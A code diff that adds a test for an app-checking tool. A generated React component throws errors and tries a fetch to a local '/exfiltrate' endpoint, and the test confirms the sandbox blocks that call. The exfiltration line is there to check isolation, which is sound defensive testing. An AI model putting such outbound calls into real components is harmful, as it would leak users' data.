@@ -1,3 +1,5 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { lastToolResult, startScriptedModel, type ScriptedModel, type Step } from '../../test/support/scripted-model.ts';
 import { adminPrincipal, createTestPlatform, type TestPlatform } from '../../test/support/platform.ts';
@@ -150,6 +152,40 @@ describe('the checkApp tool', () => {
     expect(report.problems.length).toBeGreaterThan(0);
     for (const problem of report.problems) expect(problem.route).toBe('/gauges/:id');
     expect(report.problems[0]).toMatchObject({ component: 'Gauge' });
+  }, 60_000);
+
+  it('reports uncaught exceptions and unhandled rejections by component, and lets the page reach nothing outside the draft', async () => {
+    let outsideHits = 0;
+    const outside = http.createServer((_req, res) => {
+      outsideHits++;
+      res.end('reached');
+    });
+    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
+    const port = (outside.address() as AddressInfo).port;
+    try {
+      const id = `appcheck-tool-${++tenantCounter}`;
+      await test.platform.tenants.create(id);
+      const code = `import { useEffect } from 'react';
+export default function Late() {
+  useEffect(() => {
+    setTimeout(() => { throw new Error('late failure'); }, 0);
+    Promise.reject(new Error('nobody waits for this'));
+    fetch('http://127.0.0.1:${port}/exfiltrate').catch(() => {});
+  }, []);
+  return <p>Late</p>;
+}`;
+      await runTool(test.platform, id, 'createFrontendComponent', { name: 'Late', code });
+      await runTool(test.platform, id, 'updateUILayout', layout([['/', 'Late']]).arguments);
+      const report = (await runTool(test.platform, id, 'checkApp', {})) as { ok: boolean; problems: Array<Record<string, string>> };
+      expect(report.ok).toBe(false);
+      expect(report.problems).toContainEqual(
+        expect.objectContaining({ route: '/', kind: 'exception', component: 'Late', message: expect.stringContaining('late failure') }),
+      );
+      expect(report.problems).toContainEqual(expect.objectContaining({ route: '/', message: expect.stringContaining('nobody waits for this') }));
+      expect(outsideHits).toBe(0);
+    } finally {
+      outside.close();
+    }
   }, 60_000);
 
   it('refuses arguments', async () => {
